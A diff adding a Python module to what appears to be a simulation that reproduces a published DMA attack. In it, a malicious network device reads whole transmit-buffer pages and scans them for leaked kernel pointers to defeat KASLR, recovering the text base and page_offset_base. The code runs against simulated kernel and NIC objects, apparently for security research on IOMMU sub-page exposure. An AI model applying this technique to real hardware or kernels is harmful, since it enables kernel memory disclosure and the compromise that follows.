@@ -1,0 +1,110 @@
+"""KASLR compromise by scanning DMA-readable pages (section 2.4).
+
+"To identify this first pointer, malicious devices can scan the pages
+mapped for reading, looking for kernel pointers leaked due to sub-page
+vulnerability."
+
+The TX path supplies the readable pages: small transmit buffers come
+from ``kmalloc``, whose slab pages also hold socket objects (carrying
+``&init_net`` -- every network object points at its namespace) and SLUB
+freelist pointers (direct-map KVAs of neighbouring free objects). The
+page-granular TX mapping exposes the *whole page*, so one echo
+round-trip typically leaks both:
+
+* ``init_net`` -> text base (21-bit alignment match), and
+* a freelist KVA -> ``page_offset_base`` + PFN (30-bit alignment
+  arithmetic).
+"""
+
+from __future__ import annotations
+
+from collections import Counter
+from dataclasses import dataclass, field
+from typing import TYPE_CHECKING
+
+from repro.core.attacks.device import MaliciousDevice
+from repro.kaslr.leak import PointerLeak
+from repro.mem.phys import PAGE_SIZE
+from repro.net.proto import PROTO_UDP, make_packet
+from repro.net.stack import ECHO_PORT
+
+if TYPE_CHECKING:
+    from repro.net.nic import Nic
+    from repro.sim.kernel import Kernel
+
+
+@dataclass
+class LeakHarvest:
+    """Everything gathered from readable TX pages."""
+
+    leaks: list[PointerLeak] = field(default_factory=list)
+    pages_read: int = 0
+    rounds: int = 0
+
+
+def harvest_tx_leaks(kernel: "Kernel", nic: "Nic",
+                     device: MaliciousDevice, *, rounds: int = 3,
+                     cpu: int = 0) -> LeakHarvest:
+    """Trigger echo traffic and scan every page the TX mappings expose.
+
+    Each round: the device injects a small echo request; the victim's
+    stack replies; the device reads the *entire page* behind each TX
+    linear mapping (page granularity!), scans it for kernel pointers,
+    then releases the completion so the victim stays healthy.
+    """
+    harvest = LeakHarvest()
+    for round_no in range(rounds):
+        request = make_packet(dst_ip=0x0A00_0001, dst_port=ECHO_PORT,
+                              proto=PROTO_UDP, flow_id=0x6000 + round_no,
+                              payload=b"leakprobe-%d" % round_no)
+        if not device_receive_and_poll(kernel, nic, request, cpu=cpu):
+            continue
+        for desc, _data in nic.device_fetch_tx(cpu=cpu, complete=False):
+            page_iova = desc.linear_iova & ~(PAGE_SIZE - 1)
+            page = device.dma_read(page_iova, PAGE_SIZE)
+            harvest.leaks.extend(device.leak_scanner.scan(page))
+            harvest.pages_read += 1
+            device.dma_reads += 0  # dma_read already counted
+            nic.device_complete_tx(desc)
+        nic.tx_clean(cpu=cpu)
+        harvest.rounds += 1
+    return harvest
+
+
+def device_receive_and_poll(kernel: "Kernel", nic: "Nic",
+                            wire_bytes: bytes, *, cpu: int = 0) -> bool:
+    """Inject one packet and let the victim process it fully."""
+    if not nic.device_receive(wire_bytes, cpu=cpu):
+        return False
+    nic.napi_poll(cpu=cpu)
+    kernel.stack.process_backlog()
+    return True
+
+
+def break_kaslr_via_tx(kernel: "Kernel", nic: "Nic",
+                       device: MaliciousDevice, *, rounds: int = 3,
+                       cpu: int = 0) -> bool:
+    """Recover text base and page_offset_base from TX leaks.
+
+    Returns True when both slides are known. The direct-map base uses
+    majority voting over all direct-map leaks (section 2.4's 30-bit
+    arithmetic; exact for sub-1-GiB physical addresses, which early
+    slab pages are).
+    """
+    harvest = harvest_tx_leaks(kernel, nic, device, rounds=rounds, cpu=cpu)
+    device.try_recover_text_base(harvest.leaks)
+    votes: Counter[int] = Counter()
+    for leak in harvest.leaks:
+        if leak.region.name == "direct_map":
+            base, _pfn = device.leak_scanner. \
+                recover_bases_from_direct_map_leak(leak.value)
+            votes[base] += 1
+    if votes and device.knowledge.page_offset_base is None:
+        base = votes.most_common(1)[0][0]
+        device.knowledge.page_offset_base = base
+        device.knowledge.notes.append(
+            f"page_offset_base {base:#x} from {sum(votes.values())} "
+            f"direct-map leaks (30-bit alignment arithmetic)")
+    device.try_recover_vmemmap_base(harvest.leaks)
+    return (device.knowledge.text_base is not None
+            and device.knowledge.page_offset_base is not None)
